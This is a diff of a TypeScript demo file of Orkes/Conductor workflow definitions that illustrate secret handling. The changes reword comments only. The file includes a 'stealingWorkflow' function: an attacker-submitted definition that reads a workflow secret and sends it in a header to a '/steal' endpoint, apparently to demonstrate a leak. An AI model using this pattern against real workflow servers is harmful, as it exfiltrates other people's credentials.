@@ -1,9 +1,9 @@
-// The workflow definitions of the demo, as the documentation of Orkes and docs/workflows.md write them.
+// Contains the workflow definitions of the demo. The workflow definitions are examples from the documentation of Orkes and from docs/workflows.md.
 import type { Json } from '../../src/commands/demo/pretty.ts';
 
 type Definition = { [name: string]: Json };
 
-/** The task definition of the worker. */
+/** The task definition of the tasks that the worker polls. */
 export const LABEL_TASK = 'print_label';
 
 /** Returns a workflow definition. `more` contains additional fields. */
@@ -21,7 +21,7 @@ export type WorkflowName = keyof ReturnType<typeof workflows>;
 
 export function workflows(target: string) {
   return {
-    /** An HTTP task with a bearer token, as in the documentation of Orkes. */
+    /** A workflow definition with an HTTP task that sends a bearer token. The example comes from the documentation of Orkes. */
     sample_bearer: workflow('sample_bearer', [
       http('call_api', {
         uri: `${target}/api`,
@@ -30,7 +30,7 @@ export function workflows(target: string) {
       }),
     ]),
 
-    /** A secret in the address. The answer of the post office contains the address. */
+    /** A workflow definition with a secret in the URL of an HTTP task. The response of the called server repeats the URL. */
     post_office: workflow(
       'post_office',
       [
@@ -42,14 +42,14 @@ export function workflows(target: string) {
       { outputParameters: { answer: '${verify_address.output.response.body}' } },
     ),
 
-    /** A task that a worker polls. */
+    /** A workflow definition with a task that a worker polls. */
     label: workflow(
       'label',
       [task('SIMPLE', LABEL_TASK, { authorization: 'Bearer ${workflow.secrets.label_printer_token}' })],
       { outputParameters: { printer: `\${${LABEL_TASK}.output.printer}` } },
     ),
 
-    /** Data that people must not read, without secrets. */
+    /** A workflow definition with confidential data, but without secrets. */
     customer: workflow(
       'customer',
       [
@@ -62,7 +62,7 @@ export function workflows(target: string) {
       { maskedFields: ['ssn'], outputParameters: { letter: '${write_letter.output.result}' } },
     ),
 
-    /** The rotation of a token that expires, as in the documentation of Orkes. */
+    /** A workflow definition that rotates a token before the token expires. The example comes from the documentation of Orkes. */
     rotate_token: workflow('rotate_token', [
       http('retrieve_token', {
         uri: `${target}/token`,
@@ -75,7 +75,7 @@ export function workflows(target: string) {
       }),
     ]),
 
-    /** A task that uses the rotated token. */
+    /** A workflow definition with a task that uses the rotated token. */
     list_parcels: workflow('list_parcels', [
       http('list', {
         uri: `${target}/parcels`,
@@ -84,7 +84,7 @@ export function workflows(target: string) {
       }),
     ]),
 
-    /** A task that sends input of the workflow, and a secret. */
+    /** A workflow definition with a task that sends a secret together with the input of the workflow. */
     greet: workflow('greet', [
       http('greet', {
         uri: `${target}/greet`,
@@ -98,7 +98,7 @@ export function workflows(target: string) {
   } satisfies Record<string, Definition>;
 }
 
-/** The workflow definition of an attacker, who sends the definition with the request to start a workflow. */
+/** The workflow definition that an attacker sends with the request to start a workflow. */
 export function stealingWorkflow(target: string, secret: string): Definition {
   return workflow('greet_all', [
     http('steal', { uri: `${target}/steal`, method: 'GET', headers: { 'X-Name': `\${workflow.secrets.${secret}}` } }),
